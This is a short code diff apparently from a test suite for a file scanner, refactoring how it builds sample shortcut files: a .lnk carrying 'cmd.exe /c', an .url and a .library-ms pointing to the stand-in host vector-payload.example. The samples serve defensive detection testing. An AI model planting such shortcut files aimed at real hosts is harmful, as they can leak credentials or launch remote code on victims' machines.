@@ -72,9 +72,10 @@ def zips_and_others():
         add(171 if not name.endswith(('one', 'vhdx')) else 173, name, 'held', carry(data, name), payload=False)
     archive(172, 'found', 'links.tar', 'slip.tar')
     link = bytes.fromhex('4c0000000114020000000000c000000000000046') + bytes(56) + b'c\0m\0d\0.\0e\0x\0e\0 \0/\0c\0'
-    for name, data in {'a.lnk': link, 'a.url': b'[InternetShortcut]\r\nURL=http://vector-payload.example/x\r\n',
-                       'a.library-ms': b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\vector-payload.example\\x</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>'}.items():
-        add(173, name, 'held' if name == 'a.lnk' else 'tagged', carry(data, name), payload=False)
+    for extension, data in {'lnk': link, 'url': b'[InternetShortcut]\r\nURL=http://vector-payload.example/x\r\n',
+                       'library-ms': b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\vector-payload.example\\x</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>'}.items():
+        name = 'a.' + extension
+        add(173, name, 'held' if extension == 'lnk' else 'tagged', carry(data, name), payload=False)
     archive(182, 'found', 'gifar*', 'sfx-zip*')
 
 
